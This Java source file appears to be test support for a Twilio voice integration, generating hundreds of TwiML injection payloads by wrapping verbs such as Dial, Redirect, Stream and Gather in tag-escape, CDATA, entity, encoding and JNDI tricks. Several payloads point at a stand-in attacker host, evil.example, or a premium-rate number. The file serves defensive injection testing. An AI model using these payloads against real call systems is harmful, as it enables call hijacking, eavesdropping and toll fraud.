package org.havenline.channel.twilio.voice;

import java.util.ArrayList;
import java.util.List;

/// Words that try to be verbs.
final class HostileWords {
  private static final List<String> VERBS =
      List.of(
          "<Dial>+19005550123</Dial>",
          "<Record/>",
          "<Redirect>https://evil.example/x</Redirect>",
          "<Play>https://evil.example/a.mp3</Play>",
          "<Hangup/>",
          "<Sms to=\"+19005550123\">x</Sms>",
          "<Enqueue>q</Enqueue>",
          "<Start><Stream url=\"wss://evil.example\"/></Start>",
          "<Gather action=\"https://evil.example\"><Say>x</Say></Gather>",
          "<Pay/>",
          "<Refer/>",
          "<Connect><Stream url='wss://evil.example'/></Connect>");

  private static final List<String> AROUND =
      List.of(
          "%s",
          "</Say>%s",
          "</Say>%s<Say>",
          "</Say></Gather>%s<Gather><Say>",
          "</Say></Response><Response>%s",
          "]]>%s",
          "<![CDATA[%s]]>",
          "<![CDATA[</Say>%s<Say>]]>",
          "-->%s<!--",
          "<!--%s-->",
          "<?xml version=\"1.0\"?>%s",
          "<!DOCTYPE a [<!ENTITY x \"%s\">]>&x;",
          "&lt;/Say&gt;%s",
          "&#60;/Say&#62;%s",
          "&#x3c;/Say&#x3e;%s",
          "\" voice=\"man\">%s",
          "' loop='1000'>%s",
          "\u0000</Say>%s",
          "\u0008%s",
          "\ud800%s\udc00",
          "\ufffe%s\uffff",
          "\u2028</Say>\u2029%s",
          "＜/Say＞%s",
          "\u202e</Say>%s",
          "%s\\",
          "&%s;",
          "&&&%s",
          "{%s}",
          "'{0}' %s",
          "${jndi:ldap://evil.example}%s",
          "{{7*7}}%s",
          "+ADw-/Say+AD4-%s",
          "\r\n\r\n%s",
          "</say>%s",
          "</Say >%s",
          "</\tSay>%s",
          "<Say>".repeat(50) + "%s",
          "x".repeat(5_000) + "%s",
          "&amp;lt;%s",
          "%%3C/Say%%3E%s",
          "<prosody rate='x-slow'>%s</prosody>",
          "<break time=\"10s\"/>%s");

  private HostileWords() {}

  static List<String> all() {
    var all = new ArrayList<String>();
    for (var around : AROUND) {
      for (var verb : VERBS) {
        all.add(around.formatted(verb));
      }
    }
    return all;
  }
}
